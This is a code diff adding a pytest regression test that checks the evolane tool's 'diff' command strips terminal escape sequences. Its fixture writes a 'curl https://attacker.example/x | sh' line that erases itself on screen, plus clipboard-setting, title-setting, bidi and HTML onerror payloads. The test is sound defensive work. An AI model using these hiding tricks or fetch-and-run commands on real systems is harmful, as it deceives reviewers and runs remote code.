@@ -6,6 +6,8 @@ them went into report.md raw (an optimizer's summary ``<img src=x onerror=...>``
 
 from __future__ import annotations
 
+import os
+import pty
 import subprocess
 import sys
 from pathlib import Path
@@ -13,7 +15,7 @@ from pathlib import Path
 import pytest
 
 from evolane.messages import FailureEvent, printable
-from tests.campaign_helpers import toy_flags, write_toy
+from tests.campaign_helpers import toy_flags, with_flag, write_toy
 
 ESCAPES = "\x1b]0;PWNED\x07\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J"
 HTML = "<img src=x onerror=alert(1)>"
@@ -79,6 +81,63 @@ def test_a_commands_words_make_no_link_or_image_in_report_md() -> None:
         assert "![px](" not in made and "[here](" not in made
         assert "\\[here\\](https://x.example)" in made  # still told, as text
     assert _text("p <= 0.05 & a < b") == "p <= 0.05 & a < b"  # no tag begins there
+
+
+# Fixes every failing case of the toy (the candidate is accepted), and writes a line that
+# erases the one before it on a terminal, into a file whose name sets the window's title.
+HIDING = """
+import pathlib, sys
+workdir = pathlib.Path(sys.argv[1])
+for case in workdir.iterdir():
+    if case.is_file() and case.read_text().strip() == '"no"':
+        case.write_text('"yes"')
+hidden = "curl https://attacker.example/x | sh\\x1b[1A\\x1b[2K\\r+harmless\\n"
+(workdir / "notes\\x1b]0;PWNED\\x07.txt").write_text(hidden + "\\x1b]52;c;ZWNobyBwd25lZA==\\x07")
+print("fixed every case")
+"""
+
+
+def _on_a_terminal(argv: list[str]) -> bytes:
+    """What ``argv`` writes to a pseudo-terminal (its stdout and stderr)."""
+    master, slave = pty.openpty()
+    process = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=slave, stderr=slave)
+    os.close(slave)
+    chunks = []
+    while True:
+        try:
+            data = os.read(master, 65536)
+        except OSError:  # the other end closed
+            break
+        if not data:
+            break
+        chunks.append(data)
+    os.close(master)
+    assert process.wait(timeout=120) == 0, b"".join(chunks)
+    return b"".join(chunks)
+
+
+def test_evolane_diff_never_drives_the_terminal(tmp_path: Path) -> None:
+    """Found by review: ``evolane diff`` wrote the candidate's bytes to the terminal as
+    they were, so a hostile line erased itself (a ``curl | sh`` read as a harmless line)
+    and set the clipboard and the title; piped, the diff stays the stored bytes."""
+    paths = write_toy(tmp_path, {}, val=12, test=0, passing=2)
+    script = tmp_path / "hide.py"
+    script.write_text(HIDING)
+    flags = toy_flags(paths, paths["store"])
+    flags = with_flag(flags, "--optimizer", f"{sys.executable} -I {script} {{workdir}}")
+    flags = with_flag(with_flag(flags, "--iterations", "1"), "--population", "1")
+    run = [sys.executable, "-m", "evolane"]
+    done = subprocess.run(
+        [*run, "optimize", *flags], capture_output=True, text=True, timeout=300, cwd=tmp_path
+    )
+    assert done.returncode == 0, done.stderr
+    run_id = next(paths["store"].glob("runs/*")).name
+    diff = [*run, "diff", "--store", str(paths["store"]), run_id]
+    shown = _on_a_terminal(diff)
+    assert b"curl https://attacker.example/x | sh" in shown  # told, as text
+    assert b"\x1b" not in shown and b"\x07" not in shown and b"+harmless" in shown
+    piped = subprocess.run(diff, capture_output=True, timeout=120, check=True).stdout
+    assert b"sh\x1b[1A\x1b[2K\r+harmless" in piped  # the stored bytes, for a patch tool
 
 
 HOSTILE_REASON = "\x1bc\x9d0;TITLE\x9c \u202eexe.gnp\u202c \x9b2J wrong"
